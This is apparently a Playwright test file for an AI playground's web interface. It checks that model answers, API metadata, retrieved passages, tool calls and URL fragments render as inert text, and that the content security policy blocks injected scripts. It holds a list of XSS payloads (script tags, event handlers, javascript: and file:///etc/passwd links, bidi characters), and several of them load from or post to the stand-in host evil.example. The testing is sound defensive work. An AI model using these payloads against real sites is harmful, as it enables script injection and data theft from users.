"""What others wrote is shown, and nothing of it runs, is fetched, or changes the page."""

import json
from typing import Any

import pytest

from sandbox.model.script import ModelScript
from tests.sandbox.playground.conftest import Tab, expect

pytestmark = pytest.mark.playground

# Where a script would leave its mark.
MARK = "document.documentElement.setAttribute('data-owned', '1')"
ATTACKS = [
    f"<script>{MARK}</script>",
    f'<img src="https://evil.example/x.png" onerror="{MARK}">',
    "![picture](https://evil.example/pixel.png) and ![](//evil.example/2.png)",
    f"[click](javascript:{MARK.replace(' ', '%20')})",
    f'<a href="javascript:{MARK}">click</a>',
    "[data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x) [file](file:///etc/passwd)",
    f'<svg onload="{MARK}"><animate onbegin="{MARK}" attributeName=x></svg>',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>',
    '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
    '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="key"><button formaction="https://evil.example">x</button></form>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}&gt;">',
    '<base href="https://evil.example/"><div id="main" style="position:fixed;inset:0">over</div>',
    "```html\n<script>alert(1)</script>\n```\n`<img src=x onerror=alert(1)>`",
    "\u202egnp.exe\u202c \u0000\u0007\u001b[31mred\u0085 \u2066isolated\u2069",
    f"[a]: javascript:{MARK.replace(' ', '')}\n[link][a] <javascript:alert(1)> <https://ok.example/?q=1>",
]
# Elements and attributes that no answer may bring.
FOUND = """() => {
  const place = document.querySelector("main");
  const bad = [...place.querySelectorAll(
    ".text script, .text img, .text iframe, .text object, .text style, .text link, .text meta, .text form, .text input,"
    + ".text svg, .text math, .text base, .text [style], .text [id], .text [onerror], .text [onload]")];
  const links = [...place.querySelectorAll("a[href]")].map((link) => link.protocol);
  const wrong = links.filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol));
  return { bad: bad.map((one) => one.outerHTML), wrong, owned: document.documentElement.dataset.owned || null };
}"""


def harmless(tab: Tab) -> None:
    assert tab.page.evaluate(FOUND) == {"bad": [], "wrong": [], "owned": None}
    assert not [url for url in tab.asked if "evil.example" in url]
    expect(tab.page.locator("main")).to_be_visible()


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_an_answer_runs_and_fetches_nothing(tab: Tab, model: ModelScript, attack: str) -> None:
    model.answer(attack)

    tab.say(attack)
    # Not the text as it is shown until the libraries are there.
    tab.answer().locator(".text:not(.plain)").wait_for()
    for link in tab.page.locator(".text a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"

    harmless(tab)
    tab.view("History")
    tab.page.locator("li button").first.click()
    tab.page.locator(".turn .text:not(.plain)").wait_for()
    harmless(tab)


def test_an_answer_that_is_nested_too_deep_stands_as_text_and_the_page_goes_on(tab: Tab, model: ModelScript) -> None:
    model.answer("> " * 1500 + "deep", contains="Nest")
    tab.say("Nest")

    expect(tab.answer().locator(".text")).to_contain_text("deep")
    tab.view("History")
    tab.page.locator("li button").first.click()
    expect(tab.page.locator(".turn .text")).to_contain_text("deep")


def test_an_answer_has_no_characters_that_turn_its_text_round(tab: Tab, model: ModelScript) -> None:
    model.answer("Run \u202egnp.exe\u202c, `\u2066isolated\u2069`, \u0007 bell", contains="Turn")
    tab.say("Turn")

    answer = tab.answer().locator(".text:not(.plain)")
    expect(answer).to_contain_text("gnp.exe")
    assert not set("\u202e\u202c\u2066\u2069\u0007") & set(answer.inner_text())


EVIL = "".join(ATTACKS[:3])


def listed(*data: Any) -> str:
    return json.dumps({"object": "list", "data": list(data), "has_more": False})


def answer_with(tab: Tab, pattern: str, body: str) -> None:
    """Let the endpoint answer what it never would: names come from files, and files from people."""
    tab.page.route(pattern, lambda route: route.fulfill(status=200, content_type="application/json", body=body))


def test_names_of_aliases_prompts_and_sessions_are_text(tab: Tab) -> None:
    abilities = {"kind": "chat", "parameters": [EVIL], "features": [EVIL], "max_output_tokens": 5, "prices": {}}
    status = {"standing": "first", "verdict": EVIL, "checked_at": None, "candidates": [EVIL], "abilities": abilities}
    alias = {"id": EVIL, "object": "model", "created": 0, "owned_by": EVIL, "quarry": status}
    variable = {"name": EVIL, "description": EVIL, "max_length": 9, "required": True}
    prompt = {"name": EVIL, "version": EVIL, "description": EVIL, "model": EVIL, "variables": [variable]}
    session = {"id": EVIL, "created": 1, "updated": 1, "expires_at": 1, "turns": 1, "alias": EVIL, "metadata": {}}
    answer_with(tab, "**/v1/models", listed(alias))
    answer_with(tab, "**/v1/prompts", listed(prompt))
    answer_with(tab, "**/v1/sessions?*", listed(session))
    tab.page.reload()
    tab.open_all()
    tab.page.get_by_role("combobox", name="Prompt").select_option(index=1)
    tab.page.get_by_role("group", name="Variables").wait_for()

    harmless(tab)


def test_documents_passages_and_metadata_are_text(tab: Tab) -> None:
    passage = {"document": EVIL, "location": EVIL, "passage": EVIL, "score": 0.5, "metadata": {EVIL: EVIL}}
    answer_with(tab, "**/v1/knowledge/retrieve", listed(passage))
    answer_with(
        tab,
        "**/v1/knowledge",
        json.dumps({"object": "knowledge", "model": EVIL, "results": 5, "metadata": {EVIL: EVIL}}),
    )
    tab.view("Documents")
    tab.page.get_by_role("button", name="add a filter").click()
    tab.page.get_by_role("button", name="remove").click()
    tab.page.get_by_label("Question").fill("x")
    tab.page.get_by_role("button", name="Passages alone").click()
    tab.page.locator(".passage").wait_for()

    expect(tab.page.locator(".passage")).to_contain_text("<script>")
    assert "\u202e" not in tab.page.locator(".passage").inner_text()
    harmless(tab)


def test_refusals_and_tools_are_text(tab: Tab, model: ModelScript) -> None:
    model.tool_calls([{"name": "get_weather", "input": {"city": EVIL}}], times=1)
    tab.page.locator("summary", has_text="Tools").click()
    tab.page.locator("details", has_text="The model asks for a call").get_by_role("button", name="an example").click()
    tab.say("Hello")
    tab.answer().locator(".call").wait_for()
    harmless(tab)

    error = {"error": {"message": EVIL, "type": EVIL, "param": EVIL, "code": EVIL}}
    tab.page.route(
        "**/v1/usage",
        lambda route: route.fulfill(status=400, content_type="application/json", body=json.dumps(error)),
    )
    tab.view("Usage")
    tab.page.get_by_role("alert").wait_for()
    harmless(tab)


@pytest.mark.parametrize("fragment", ["#key=%E0%A4%A", "#key=<script>", "#/constructor", "#/__proto__", "#/../x"])
def test_what_stands_in_the_address_changes_nothing(tab: Tab, fragment: str) -> None:
    tab.page.goto(f"{tab.root}{fragment}")
    tab.page.reload()

    tab.page.get_by_role("heading", level=2).first.wait_for(state="attached")
    assert "script" not in tab.page.url
    harmless(tab)
    tab.errors.clear()


def test_the_policy_stops_what_would_get_through(tab: Tab) -> None:
    """Even if something were let in: scripts, styles, images and calls of elsewhere are refused by the browser."""
    refused = tab.page.evaluate(
        """async () => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
          const add = (tag, members) => document.body.append(Object.assign(document.createElement(tag), members));
          add("script", { textContent: "window.owned = 1" });
          add("script", { src: "https://evil.example/x.js" });
          add("style", { textContent: "body { color: red }" });
          add("img", { src: "https://evil.example/x.png" });
          add("iframe", { src: "https://evil.example/" });
          await fetch("https://evil.example/").catch(() => {});
          await new Promise((done) => setTimeout(done, 200));
          return [...new Set(seen)].sort().concat(window.owned ? ["owned"] : []);
        }"""
    )

    assert refused == ["connect-src", "frame-src", "img-src", "script-src-elem", "style-src-elem"]
    tab.errors.clear()
    tab.asked.clear()
